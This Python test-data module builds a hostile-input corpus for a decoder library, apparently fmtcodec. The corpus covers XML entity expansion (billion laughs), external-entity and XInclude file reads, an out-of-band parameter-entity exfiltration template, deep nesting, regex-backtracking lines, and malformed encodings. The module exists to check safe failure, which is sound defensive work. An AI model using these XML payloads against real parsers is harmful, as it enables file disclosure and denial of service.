"""The hostile corpus: inputs that must end in DecodeError (docs/security.md, issue 4).

Each :class:`Case` gives a body per wire format it applies to. tests/test_hostile.py runs
every body with its format named and with the format left to detection, as bytes and (when
the bytes are text in the case's charset) as str, and checks the error, the time, the
memory and that no file was read. A body builder takes the ``file://`` URI of a file the
test made, for the cases that name one (external entities, DTDs, XInclude).

:data:`HARMLESS` holds the few tricky inputs that are valid and decode to a known model
(XML comments, processing instructions and CDATA are markup, not data; a UTF-8 BOM is
dropped): they get the same checks, except that they must decode to that model.
"""

from __future__ import annotations

import codecs
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from fmtcodec import DEFAULT_MAX_SIZE, Ok, Response, Sender, SenderList

Body = bytes | str
Builder = Callable[[str], Body]

MB = 1_000_000
# The timed long-line cases are 1 MB: 5 MB take 30-50 ms on an idle 2-core machine, at the
# edge of the 50 ms bound, and twice that on a busy one. tests/test_hostile.py checks 5 MB
# lines apart, for their error, their memory and linear time (docs/security.md).
LINE = MB


def long_line(fmt: int, size: int) -> str:
    """A line of ``size`` characters that is valid up to a bad id at its end."""
    return {
        0: lambda: "name = " + "a" * size + ", id = x",
        1: lambda: "a" * size + ",x",
        2: lambda: '<list>\n<sender id="x">' + "a" * size + "</sender>\n</list>",
        3: lambda: '[{"sender": "' + "a" * size + '", "id": "x"}]',
    }[fmt]()


@dataclass(frozen=True)
class Case:
    """One hostile input, as a body for each wire format it applies to."""

    name: str
    bodies: Mapping[int, Builder]
    charset: str = "utf-8"
    max_size: int = DEFAULT_MAX_SIZE
    # Run as bytes (a str body encoded in ``charset``) and as str (bytes decoded): only one
    # where the point of the case is bytes that are not text, or a str that has no bytes.
    kinds: tuple[str, ...] = ("bytes", "str")
    # The body names the test's file: check that it is never read or even opened.
    names_file: bool = False
    # Also decode with fmt=None; False where detection would read the body as another
    # format, or would test nothing new.
    detect: bool = True
    # The bound on the peak of Python allocations, in multiples of the input's size.
    memory_factor: int = 8


@dataclass(frozen=True)
class Harmless:
    """A valid input that looks hostile, and the model it must decode to."""

    name: str
    bodies: Mapping[int, Builder]
    expected: Response
    names_file: bool = False
    charset: str = "utf-8"
    max_size: int = DEFAULT_MAX_SIZE
    kinds: tuple[str, ...] = ("bytes", "str")
    detect: bool = True


def _returning(body: Body) -> Builder:
    """A builder that ignores the URI and gives ``body``."""
    return lambda _uri: body


def _same(body: Body, *fmts: int) -> dict[int, Builder]:
    return {fmt: _returning(body) for fmt in fmts}


def _each(**bodies: Body) -> dict[int, Builder]:
    """Bodies given as f0=..., f1=..., f2=..., f3=..."""
    return {int(key[1:]): _returning(body) for key, body in bodies.items()}


def _building(build: Callable[[], Body]) -> Builder:
    """A builder that ignores the URI and builds its body when called."""
    return lambda _uri: build()


def _lazy(**builders: Callable[[], Body]) -> dict[int, Builder]:
    """Big bodies, built only when the test runs."""
    return {int(key[1:]): _building(build) for key, build in builders.items()}


def _big(name: str, bodies: dict[int, Builder], memory_factor: int = 8) -> Case:
    """A case of megabytes: detection reads one character, so it is not run again."""
    return Case(name, bodies, detect=False, memory_factor=memory_factor)


# Each ~10-byte attribute or member becomes a name, a value and a dict entry: ~300 bytes.
_SMALL_FIELDS = 48


def _naming(**builders: Callable[[str], Body]) -> dict[int, Builder]:
    return {int(key[1:]): build for key, build in builders.items()}


ALL = (0, 1, 2, 3)

# --- a list record in each format, with its id (or any one value) swapped --------------------


def _record(value: str, json_value: str | None = None) -> dict[int, Builder]:
    """A one-sender list whose id is ``value`` (raw JSON ``json_value`` in fmt 3)."""
    json_value = json_value if json_value is not None else '"' + value + '"'
    return _each(
        f0=f"name = A, id = {value}",
        f1=f"A,{value}",
        f2=f'<list>\n<sender id="{value}">A</sender>\n</list>',
        f3=f'[{{\n"sender": "A",\n"id": {json_value}\n}}]',
    )


def _status(value: str, json_value: str | None = None) -> dict[int, Builder]:
    json_value = json_value if json_value is not None else '"' + value + '"'
    return _each(
        f0=f"name = A, status = {value}, id = 1",
        f1=f"A,{value},1",
        f2=f'<list>\n<sender status="{value}" id="1">A</sender>\n</list>',
        f3=f'[{{\n"sender": "A",\n"status": {json_value},\n"id": 1\n}}]',
    )


def _code(value: str, json_value: str | None = None) -> dict[int, Builder]:
    json_value = json_value if json_value is not None else '"' + value + '"'
    return _each(
        f0=f"ERROR = {value} (x)",
        f1=f"0,-{value}",
        f2=f"<result>\n<error>x</error>\n<error_code>{value}</error_code>\n</result>",
        f3=f'{{\n"error": "x",\n"error_code": {json_value}\n}}',
    )


def _created(value: str, json_value: str | None = None) -> dict[int, Builder]:
    json_value = json_value if json_value is not None else '"' + value + '"'
    return _each(
        f0=f"ID = {value}",
        f1=value,
        f2=f"<sender>\n<id>{value}</id>\n</sender>",
        f3=f'{{\n"sender": {json_value}\n}}',
    )


def _name(name: str) -> dict[int, Builder]:
    """A valid one-sender list but for its name (in fmt 3 as written, escapes and all)."""
    return _each(
        f0=f"name = {name}, id = 1",
        f1=f"{name},1",
        f2=f'<list>\n<sender id="1">{name}</sender>\n</list>',
        f3=f'[{{\n"sender": "{name}",\n"id": 1\n}}]',
    )


def _name_bytes(name: bytes, fmts: tuple[int, ...] = ALL) -> dict[int, Builder]:
    bodies = {
        0: b"name = " + name + b", id = 1",
        1: name + b",1",
        2: b'<list>\n<sender id="1">' + name + b"</sender>\n</list>",
        3: b'[{\n"sender": "' + name + b'",\n"id": 1\n}]',
    }
    return {fmt: _returning(bodies[fmt]) for fmt in fmts}


# --- XML attacks (the defusedxml set) ----------------------------------------------------------

_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE list [\n<!ENTITY lol "lol">\n'
    + "".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">\n'
        for n in range(1, 10)
    )
    + ']>\n<list>\n<sender id="1">&lol9;</sender>\n</list>'
)


def _quadratic() -> str:
    return (
        f'<!DOCTYPE list [<!ENTITY a "{"x" * 50_000}">]>\n<list>\n<sender id="1">'
        + "&a;" * 50_000
        + "</sender>\n</list>"
    )


def _general_entity(uri: str) -> str:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE list [<!ENTITY ext SYSTEM "{uri}">]>\n'
        '<list>\n<sender id="1">&ext;</sender>\n</list>'
    )


def _parameter_entity(uri: str) -> str:
    return f'<!DOCTYPE list [<!ENTITY % ext SYSTEM "{uri}">\n%ext;\n]>\n<list/>'


def _parameter_entity_exfiltration(uri: str) -> str:
    # The classic out-of-band shape: the file's content spliced into a URL.
    return (
        f'<!DOCTYPE list [<!ENTITY % file SYSTEM "{uri}">\n'
        "<!ENTITY % eval \"<!ENTITY &#x25; leak SYSTEM 'http://127.0.0.1:9/?%file;'>\">\n"
        "%eval;\n%leak;\n]>\n<list/>"
    )


def _dtd_retrieval(uri: str) -> str:
    return f'<?xml version="1.0"?>\n<!DOCTYPE list SYSTEM "{uri}">\n<list/>'


def _dtd_public(uri: str) -> str:
    return f'<!DOCTYPE list PUBLIC "-//SMSC//senders//EN" "{uri}">\n<list/>'


def _xinclude(uri: str) -> str:
    return (
        '<list xmlns:xi="http://www.w3.org/2001/XInclude">\n'
        f'<xi:include href="{uri}" parse="text"/>\n</list>'
    )


def _xinclude_in_sender(uri: str) -> str:
    return (
        '<list xmlns:xi="http://www.w3.org/2001/XInclude">\n'
        f'<sender id="1"><xi:include href="{uri}" parse="text"/></sender>\n</list>'
    )


def _doctype_after_comment(uri: str) -> str:
    return f'<!-- a proxy -->\n<!DOCTYPE list SYSTEM "{uri}">\n<list/>'


def _entity_in_attribute(uri: str) -> str:
    return (
        f'<!DOCTYPE list [<!ENTITY ext SYSTEM "{uri}">]>\n'
        '<list>\n<sender id="1" x="&ext;">A</sender>\n</list>'
    )


def _xml_deep() -> str:
    return "<list>" + "<a>" * 100_000 + "</a>" * 100_000 + "</list>"


def _xml_attributes_duplicate() -> str:
    attributes = " ".join(f'a{i}="v"' for i in range(5_000))
    return f'<list>\n<sender {attributes} a2500="w" id="1">A</sender>\n</list>'


def _xml_attributes_bad_id() -> str:
    attributes = " ".join(f'a{i}="v"' for i in range(5_000))
    return f'<list>\n<sender {attributes} id="x">A</sender>\n</list>'


def _xml_line() -> str:
    return long_line(2, LINE)


def xml_text_node() -> str:
    # Over libxml2's 10,000,000-byte limit on one text node without XML_PARSE_HUGE.
    return '<list>\n<sender id="1">' + "a" * (11 * MB) + "</sender>\n</list>"


# --- JSON ---------------------------------------------------------------------------------


def _json_deep_lists() -> str:
    return "[" * 100_000 + "]" * 100_000


def _json_deep_objects() -> str:
    return '{"a": ' * 100_000 + "1" + "}" * 100_000


def _json_deep_member() -> str:
    return '[{"sender": "A", "x": ' + "[" * 100_000 + "]" * 100_000 + ', "id": 1}]'


# 1,000 members: locating an error walks the members token by token, about 2 us each
# (6 under a coverage tracer).
def _json_members_top() -> str:
    return "{" + ", ".join(f'"k{i}": 1' for i in range(1_000)) + "}"


def _json_members_duplicate() -> str:
    members = ", ".join(f'"k{i}": 1' for i in range(1_000))
    return f'[{{"sender": "A", {members}, "k500": 2, "id": 1}}]'


def _json_line() -> str:
    return long_line(3, LINE)


def _json_line_colons() -> str:
    return '[{"sender": "' + ":" * LINE + '", "id": 1, "id": 2}]'


# --- fmt 0 lines shaped for a backtracking regex -----------------------------------------


def _f0(build: Callable[[], str]) -> dict[int, Builder]:
    return _lazy(f0=build)


# --- one bad record after many good ones -----------------------------------------------------
# Not a 50 ms case: finding the error means reading the records before it, which costs what
# decoding them costs. tests/test_hostile.py checks that the error costs no more than that.

LATE_ERRORS: dict[str, tuple[int, Callable[[int], str], Callable[[int], str]]] = {
    # name: (fmt, a valid body of n records, the same with a bad record at the end)
    "', a = ' repeated (fmt 0 pairs)": (
        0,
        lambda n: "name = x" + "".join(f", a{i} = " for i in range(n)) + ", id = 1",
        lambda n: "name = x" + ", a = " * n + ", id = 1",
    ),
    "lines (fmt 0)": (
        0,
        lambda n: "name = A, id = 1\n" * n + "name = A, id = 1",
        lambda n: "name = A, id = 1\n" * n + "name = A, id = 0",
    ),
    "rows (fmt 1)": (1, lambda n: "A,1\n" * n + "A,1", lambda n: "A,1\n" * n + "A,0"),
    "senders (fmt 2)": (
        2,
        lambda n: "<list>\n" + '<sender id="1">A</sender>\n' * (n + 1) + "</list>",
        lambda n: (
            "<list>\n" + '<sender id="1">A</sender>\n' * n + '<sender id="0">A</sender>\n</list>'
        ),
    ),
    "records on one line (fmt 3)": (
        3,
        lambda n: "[" + '{"sender": "A", "id": 1},' * n + '{"sender": "A", "id": 1}]',
        lambda n: "[" + '{"sender": "A", "id": 1},' * n + '{"sender": "A", "id": 0}]',
    ),
}


# --- size -----------------------------------------------------------------------------------


def _over_default_cap() -> bytes:
    return b"a" * (DEFAULT_MAX_SIZE + 1)


# --- HTML and other things a proxy or a broken server sends --------------------------------

NGINX_502 = (
    "<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body>\r\n"
    "<center><h1>502 Bad Gateway</h1></center>\r\n<hr><center>nginx</center>\r\n"
    "</body>\r\n</html>\r\n"
)
PHP_WARNING = (
    "<br />\n<b>Warning</b>:  mysqli_connect(): (HY000/1040): Too many connections in "
    "<b>/var/www/sys/senders.php</b> on line <b>12</b><br />\nname = A, id = 1"
)
PHP_FATAL = (
    "PHP Fatal error:  Uncaught Error: Call to undefined function get_senders() in "
    "/var/www/sys/senders.php:40\nStack trace:\n#0 {main}\n  thrown in "
    "/var/www/sys/senders.php on line 40\n"
)
HTML5_ERROR = (
    '<!DOCTYPE html>\n<html lang="en">\n<head><meta charset="utf-8">'
    "<title>503 Service Unavailable</title></head>\n<body><h1>Service Unavailable</h1>"
    "<p>The server is temporarily unable to service your request.</p></body>\n</html>\n"
)
JSON_PROXY_ERROR = '{"message": "Bad Gateway", "status": 502}'


def _utf16(text: str, codec: str, bom: bytes = b"") -> bytes:
    return bom + text.encode(codec)


_VALID = {
    0: "name = A, id = 1",
    1: "A,1",
    2: '<list>\n<sender id="1">A</sender>\n</list>',
    3: '[{\n"sender": "A",\n"id": 1\n}]',
}


def _all_valid(transform: Callable[[str], Body]) -> dict[int, Builder]:
    """A valid one-sender list in each format, transformed."""
    bodies = {fmt: transform(text) for fmt, text in _VALID.items()}
    return {fmt: _returning(body) for fmt, body in bodies.items()}


CASES: list[Case] = [
    # XML: entities, DTDs, XInclude (none may read the file the test made)
    Case("billion laughs", _each(f2=_LAUGHS)),
    Case("quadratic blowup", _lazy(f2=_quadratic)),
    Case("external general entity", _naming(f2=_general_entity), names_file=True),
    Case("external entity in an attribute", _naming(f2=_entity_in_attribute), names_file=True),
    Case("external parameter entity", _naming(f2=_parameter_entity), names_file=True),
    Case(
        "parameter entity exfiltration",
        _naming(f2=_parameter_entity_exfiltration),
        names_file=True,
    ),
    Case("DTD retrieval by SYSTEM id", _naming(f2=_dtd_retrieval), names_file=True),
    Case("DTD retrieval by PUBLIC id", _naming(f2=_dtd_public), names_file=True),
    Case("DOCTYPE after a comment", _naming(f2=_doctype_after_comment), names_file=True),
    Case("XInclude in the list", _naming(f2=_xinclude), names_file=True),
    Case("XInclude in a sender", _naming(f2=_xinclude_in_sender), names_file=True),
    Case(
        "DTD retrieval over the network",
        _each(f2='<!DOCTYPE list SYSTEM "http://127.0.0.1:9/senders.dtd">\n<list/>'),
    ),
    Case("lowercase doctype", _each(f2="<!doctype list>\n<list/>")),
    Case("entity declared without a DTD", _each(f2='<!ENTITY a "b">\n<list/>')),
    Case("undefined entity", _each(f2='<list>\n<sender id="1">&a;</sender>\n</list>')),
    _big("nesting 100,000 deep (XML)", _lazy(f2=_xml_deep)),
    Case("namespaced root", _each(f2='<list xmlns="urn:x">\n<sender id="1">A</sender>\n</list>')),
    Case(
        "namespaced attribute",
        _each(f2='<list xmlns:p="urn:x">\n<sender p:id="1" id="1">A</sender>\n</list>'),
    ),
    Case("two roots", _each(f2="<result>OK</result>\n<result>OK</result>")),
    Case("unclosed element", _each(f2='<list>\n<sender id="1">A</sender>')),
    Case("mismatched tags", _each(f2='<list>\n<sender id="1">A</list>\n</sender>')),
    Case("unquoted attribute", _each(f2="<list>\n<sender id=1>A</sender>\n</list>")),
    Case("text between senders", _each(f2='<list>\nx<sender id="1">A</sender>\n</list>')),
    Case(
        "a sender holding an element", _each(f2='<list>\n<sender id="1"><b>A</b></sender>\n</list>')
    ),
    _big("5,000 attributes and a duplicate", _lazy(f2=_xml_attributes_duplicate), _SMALL_FIELDS),
    _big("5,000 attributes and a bad id", _lazy(f2=_xml_attributes_bad_id), _SMALL_FIELDS),
    Case(
        "duplicate elements",
        _each(
            f2="<result>\n<error>a</error>\n<error>b</error>\n<error_code>1</error_code>\n</result>"
        ),
    ),
    Case("duplicate id element", _each(f2="<sender>\n<id>1</id>\n<id>2</id>\n</sender>")),
    _big("1 MB line (XML)", _lazy(f2=_xml_line)),
    Case("declared encoding utf-16", _each(f2='<?xml version="1.0" encoding="utf-16"?>\n<list/>')),
    Case("declared encoding utf-7", _each(f2='<?xml version="1.0" encoding="utf-7"?>\n<list/>')),
    Case("declared encoding ebcdic", _each(f2='<?xml version="1.0" encoding="cp500"?>\n<list/>')),
    Case("character reference to NUL", _each(f2='<list>\n<sender id="1">&#0;</sender>\n</list>')),
    Case("character reference to ESC", _each(f2='<list>\n<sender id="1">&#x1b;</sender>\n</list>')),
    Case("character reference to CR", _each(f2='<list>\n<sender id="1">A&#13;</sender>\n</list>')),
    Case(
        "character reference to CR in an attribute",
        _each(f2='<list>\n<sender x="&#xD;" id="1">A</sender>\n</list>'),
    ),
    Case(
        "character reference to a surrogate",
        _each(f2='<list>\n<sender id="1">&#xD800;</sender>\n</list>'),
    ),
    Case(
        "character reference past U+10FFFF",
        _each(f2='<list>\n<sender id="1">&#x110000;</sender>\n</list>'),
    ),
    Case(
        "character reference to U+FFFE",
        _each(f2='<list>\n<sender id="1">&#xFFFE;</sender>\n</list>'),
    ),
    Case(
        # Found by the fuzzer: libxml2's message quoted the lines after it.
        "an unfinished CDATA section over lines",
        _each(f2='<list>\n<sender id="1"><![CDATA[A\n]>B\n</sender>\n</list>'),
    ),
    Case("trailing garbage (XML)", _each(f2="<result>OK</result>\ngarbage")),
    # JSON
    _big("nesting 100,000 deep (JSON lists)", _lazy(f3=_json_deep_lists)),
    _big("nesting 100,000 deep (JSON objects)", _lazy(f3=_json_deep_objects)),
    _big("nesting 100,000 deep in an unknown member", _lazy(f3=_json_deep_member)),
    _big("1,000 members in the top object", _lazy(f3=_json_members_top), _SMALL_FIELDS),
    _big("1,000 members and a duplicate", _lazy(f3=_json_members_duplicate), _SMALL_FIELDS),
    Case("duplicate member in a record", _each(f3='[{"sender": "A", "id": 1, "id": 2}]')),
    Case("duplicate sender member", _each(f3='[{"sender": "A", "sender": "B", "id": 1}]')),
    Case("duplicate top-level member", _each(f3='{"sender": 1, "sender": 2}')),
    Case("duplicate result member", _each(f3='{"result": "OK", "result": "OK"}')),
    Case(
        "duplicate member inside an unknown member",
        _each(f3='[{"sender": "A", "x": {"k": 1, "k": 2}, "id": 1}]'),
    ),
    Case(
        "duplicate member spelt with an escape",
        _each(f3='[{"sender": "A", "i\\u0064": 2, "id": 1}]'),
    ),
    _big("1 MB line (JSON)", _lazy(f3=_json_line)),
    _big("1 MB of colons and a duplicate", _lazy(f3=_json_line_colons)),
    Case("NaN", _each(f3='{"sender": NaN}')),
    Case("Infinity", _each(f3='{"sender": Infinity}')),
    Case("a float out of range", _each(f3='{"sender": 1e999}')),
    Case("trailing comma", _each(f3='[{"sender": "A", "id": 1},]')),
    Case("a comment", _each(f3='// senders\n[{"sender": "A", "id": 1}]')),
    # spec §4.14: markup inside a value would join the text around it.
    Case(
        "a PI and a comment inside a name",
        _each(f2='<list>\n<sender id="1">A<?php echo 1; ?>B<!-- c --></sender>\n</list>'),
    ),
    Case("single quotes", _each(f3="[{'sender': 'A', 'id': 1}]")),
    Case("a top-level number", _each(f3="5"), detect=False),  # detected: fmt 1's id 5
    Case("a top-level null", _each(f3="null")),
    Case("an unknown top-level member", _each(f3='{"result": "OK", "x": 1}')),
    Case("a record that is not an object", _each(f3='[{"sender": "A", "id": 1}, 2]')),
    Case("trailing garbage (JSON)", _each(f3='{"result": "OK"} x')),
    Case("two documents", _each(f3='{"result": "OK"}{"result": "OK"}')),
    Case("escaped NUL", _each(f3='[{"sender": "A\\u0000", "id": 1}]')),
    Case("escaped ESC in a key", _each(f3='[{"sender": "A", "\\u001b": "x", "id": 1}]')),
    Case("escaped CR", _each(f3='[{"sender": "A\\r", "id": 1}]')),
    Case("escaped lone surrogate", _each(f3='[{"sender": "\\ud800", "id": 1}]')),
    Case("raw tab inside a string", _each(f3='[{"sender": "A\tB", "id": 1}]')),
    # fmt 0: lines shaped to make a backtracking regex explode
    Case("', a' 100,000 times", _f0(lambda: "name = " + ", a" * 100_000)),
    Case("', a =' 100,000 times", _f0(lambda: "name = " + ", a =" * 100_000)),
    Case("',' 100,000 times", _f0(lambda: "name = " + "," * 100_000 + "x")),
    Case("', ' 100,000 times", _f0(lambda: "name = " + ", " * 100_000)),
    # 300,000 characters: what these show is the shape (a backtracking blow-up would not end
    # at all); each character costs Lark's terminals 7-35 ns, and the 2 MB lines test size.
    Case("a key of 300,000 letters", _f0(lambda: "a" * 300_000 + " = 1")),
    Case("a key of 300,000 letters, no ' = '", _f0(lambda: "name = A, " + "a" * 300_000 + " =")),
    Case("300,000 '(' in an error", _f0(lambda: "ERROR = 1 (" + "(" * 300_000)),
    # ERROR's ")" before the line's end is found by backtracking: ~35 ns a character, more
    # under a coverage tracer (Lark then tries the other terminals).
    Case("100,000 ')' then more", _f0(lambda: "ERROR = 1 (" + ")" * 100_000 + "x")),
    Case("300,000 digits in an id", _f0(lambda: "ID = " + "9" * 300_000)),
    _big("1 MB line (fmt 0)", _f0(lambda: long_line(0, LINE))),
    Case("a duplicate key", _each(f0="name = A, id = 1, id = 2")),
    Case("a duplicate name", _each(f0="name = A, name = B, id = 1")),
    Case("no name", _each(f0="id = 1")),
    Case("no id", _each(f0="name = A, status = 1")),
    Case("a blank line between records", _each(f0="name = A, id = 1\n\nname = B, id = 2")),
    Case("trailing garbage (OK)", _each(f0="OK x", f1="OK,", f2="<result>OK</result>x")),
    Case("trailing garbage (created)", _each(f0="ID = 5 x", f1="5 x", f3='{"sender": 5}]')),
    Case("trailing garbage (error)", _each(f0="ERROR = 1 (x) y", f1="0,-1,x")),
    # fmt 1
    Case("an unclosed quote", _each(f1='"A,1')),
    Case("a quote after a quoted field", _each(f1='"A"B,1')),
    Case("a quoted newline", _each(f1='"A\nB",1')),
    Case("a quoted comma", _each(f1='"A,B",1')),
    Case("ragged rows", _each(f1="A,1\nB,1,2")),
    Case("a short row", _each(f1="A,1\nB")),
    Case("a blank row", _each(f1="A,1\n\nB,2")),
    Case("duplicate columns", _each(f1="A,1,1,1")),
    Case("an error row with an extra column", _each(f1="0,-1,-1")),
    _big("1 MB line (CSV)", _lazy(f1=lambda: long_line(1, LINE))),
    Case("a name over the csv field size limit", _lazy(f1=lambda: "a" * 200_000 + ",1")),
    # numbers: ids and codes negative, huge, fractional, exponents, not numbers (spec §4.7)
    Case("a negative id", _record("-1", "-1")),
    Case("id zero", _record("0", "0")),
    Case("id 2^63", _record("9223372036854775808", "9223372036854775808")),
    Case("a 100-digit id", _record("9" * 100, "9" * 100)),
    Case("a fractional id", _record("1.5", "1.5")),
    Case("an integral fraction", _record("1.0", "1.0")),
    Case("an exponent", _record("1e3", "1e3")),
    Case("a capital exponent", _record("1E3", "1E3")),
    Case("a plus sign", _record("+1")),
    Case("a space inside the id", _record("1 2", '"1 2"')),
    Case("hexadecimal", _record("0x10")),
    Case("underscores", _record("1_000")),
    Case("Arabic-Indic digits", _record("١٢")),
    Case("a superscript digit", _record("²")),
    Case("not a number", _record("abc")),
    Case("an empty id", _record("")),
    Case("JSON true as the id", _each(f3='[{"sender": "A", "id": true}]')),
    Case("JSON null as the id", _each(f3='[{"sender": "A", "id": null}]')),
    Case("a list as the id", _each(f3='[{"sender": "A", "id": [1]}]')),
    Case("a negative status", _status("-1", "-1")),
    Case("a huge status", _status("9" * 30, "9" * 30)),
    Case("a fractional status", _status("0.5", "0.5")),
    Case("a negative error code", _code("-1", "-1")),
    Case("a huge error code", _code("99999999999999999999", "99999999999999999999")),
    Case("an exponent error code", _code("1e1", "1e1")),
    Case("a missing error code", _code("", '""')),
    Case("a negative created id", _created("-5", "-5")),
    Case("a fractional created id", _created("5.5", "5.5")),
    Case("a created id of 2^64", _created("18446744073709551616", "18446744073709551616")),
    # characters (spec §4.10)
    Case("NUL", _name("A\x00B")),
    Case("ESC", _name("A\x1b[31mB")),
    Case("vertical tab", _name("A\x0bB")),
    Case("form feed", _name("A\x0cB")),
    Case("a lone CR", _name("A\rB")),
    Case("unit separator", _name("A\x1fB")),
    Case("a lone surrogate in str", _name("A\ud800B"), kinds=("str",)),
    # bytes that are not UTF-8 (spec §4.9: strict decoding)
    Case("an invalid byte", _name_bytes(b"A\xffB"), kinds=("bytes",)),
    Case("a truncated sequence", _name_bytes(b"A\xd0"), kinds=("bytes",)),
    Case("an overlong slash", _name_bytes(b"A\xc0\xafB"), kinds=("bytes",)),
    Case("an overlong three-byte form", _name_bytes(b"A\xe0\x80\xafB"), kinds=("bytes",)),
    Case("an overlong NUL", _name_bytes(b"A\xc0\x80B"), kinds=("bytes",)),
    Case("a CESU-8 surrogate pair", _name_bytes(b"\xed\xa0\xbd\xed\xb8\x80"), kinds=("bytes",)),
    Case("a WTF-8 lone surrogate", _name_bytes(b"A\xed\xb0\x80"), kinds=("bytes",)),
    Case("a code point past U+10FFFF", _name_bytes(b"\xf4\x90\x80\x80"), kinds=("bytes",)),
    Case("a five-byte form", _name_bytes(b"\xf8\x88\x80\x80\x80"), kinds=("bytes",)),
    Case("a lone continuation byte", _name_bytes(b"\x80"), kinds=("bytes",)),
    # BOMs and UTF-16
    Case(
        "two UTF-8 BOMs",
        # Only where U+FEFF cannot start a body: in fmt 1 it is the name's first character
        # (names are not validated: spec §4.6); in fmt 2 libxml2 skips it as a BOM.
        {
            fmt: builder
            for fmt, builder in _all_valid(
                lambda text: codecs.BOM_UTF8 * 2 + text.encode("utf-8")
            ).items()
            if fmt in (0, 3)
        },
        kinds=("bytes",),
    ),
    Case(
        "UTF-16 LE with its BOM",
        _all_valid(lambda text: _utf16(text, "utf-16-le", codecs.BOM_UTF16_LE)),
        kinds=("bytes",),
    ),
    Case(
        "UTF-16 BE with its BOM",
        _all_valid(lambda text: _utf16(text, "utf-16-be", codecs.BOM_UTF16_BE)),
        kinds=("bytes",),
    ),
    Case(
        "UTF-16 LE read as windows-1251",
        _all_valid(lambda text: _utf16(text, "utf-16-le", codecs.BOM_UTF16_LE)),
        charset="windows-1251",
        kinds=("bytes",),
    ),
    Case(
        "UTF-16 BE without a BOM read as koi8-r",
        _all_valid(lambda text: _utf16(text, "utf-16-be")),
        charset="koi8-r",
        kinds=("bytes",),
    ),
    Case(
        "UTF-32 with its BOM",
        _all_valid(lambda text: _utf16(text, "utf-32-le", codecs.BOM_UTF32_LE)),
        kinds=("bytes",),
    ),
    Case(
        "a BOM after the start", _all_valid(lambda text: text.replace("A", "\ufeff", 1) + "\ufeff")
    ),
    # a wrong charset: detectable only where the bytes are impossible
    Case("windows-1251 read as utf-8", _name_bytes("Имя".encode("cp1251")), kinds=("bytes",)),
    Case("koi8-r read as utf-8", _name_bytes("Имя".encode("koi8-r")), kinds=("bytes",)),
    Case(
        "byte 0x98 read as windows-1251",
        _name_bytes(b"A\x98B"),
        charset="windows-1251",
        kinds=("bytes",),
    ),
    # empty and whitespace
    # (detected, an empty body is fmt 1's empty list: spec §4.2, 4.8)
    Case("an empty body", _same("", 2, 3), detect=False),
    Case("newlines only", _same("\n\n", 2, 3), detect=False),
    Case("spaces only", _same("   ", *ALL)),
    Case("a tab only", _same("\t", *ALL)),
    Case("CRLFs and spaces", _same("\r\n \r\n", *ALL)),
    # what proxies and broken servers send
    Case("nginx 502 page", _same(NGINX_502, *ALL)),
    Case("PHP warning before the body", _same(PHP_WARNING, *ALL)),
    Case("PHP fatal error", _same(PHP_FATAL, *ALL)),
    Case("HTML5 error page", _same(HTML5_ERROR, *ALL)),
    Case("a proxy's JSON error", _same(JSON_PROXY_ERROR, *ALL)),
    # The caller's charset names that are codecs but not charsets (spec §4.9) are the
    # caller's mistake, a ValueError at once: tests/test_wire.py.
    Case(
        # Found by the fuzzer: the declaration is read from the bytes before any check.
        "an XML declaration naming a charset with a NUL",
        _each(f2=b'<?xml version="1.0" encoding="utf\x008"?>\n<list/>'),
        kinds=("bytes",),
    ),
    Case(
        "an XML declaration naming rot13",
        _each(f2='<?xml version="1.0" encoding="rot13"?>\n<result>OK</result>'),
    ),
    Case(
        "an XML declaration naming unicode_escape",
        _each(f2="<?xml version='1.0' encoding='unicode_escape'?>\n<result>OK</result>"),
    ),
    # the size cap
    Case(
        "max_size + 1 bytes",
        # Valid but for its size: trailing newlines are accepted (spec §4.1).
        _all_valid(lambda text: text.ljust(1001, "\n")),
        max_size=1000,
    ),
    Case("over the default cap", _lazy(f1=_over_default_cap), kinds=("bytes",), detect=False),
]


def _expected_list(*names: str) -> SenderList:
    return SenderList(senders=tuple(Sender(name=name, id=1) for name in names))


def _stylesheet(uri: str) -> str:
    pi = f'<?xml-stylesheet type="text/xsl" href="{uri}"?>'
    return pi + '\n<list>\n<sender id="1">A</sender>\n</list>'


HARMLESS: list[Harmless] = [
    # lxml drops comments and processing instructions (remove_comments, remove_pis): they
    # are markup, never data, and nothing in them is acted on.
    Harmless("a stylesheet PI naming a file", _naming(f2=_stylesheet), _expected_list("A"), True),
    Harmless(
        "a PI and a comment between elements",
        _each(f2='<list>\n<?php echo 1; ?><sender id="1">AB</sender><!-- c -->\n</list>'),
        _expected_list("AB"),
    ),
    Harmless(
        "CDATA",
        _each(f2='<list>\n<sender id="1"><![CDATA[<A&B>]]></sender>\n</list>'),
        _expected_list("<A&B>"),
    ),
    Harmless(
        "a UTF-8 BOM",
        _all_valid(lambda text: codecs.BOM_UTF8 + text.encode("utf-8")),
        _expected_list("A"),
        kinds=("bytes",),
    ),
    Harmless(
        "a UTF-8 BOM overrides koi8-r",
        _all_valid(lambda text: codecs.BOM_UTF8 + text.replace("A", "Я").encode("utf-8")),
        _expected_list("Я"),
        charset="koi8-r",
        kinds=("bytes",),
    ),
    Harmless("a bare OK under every format", _same("OK\n", *ALL), Ok()),
]
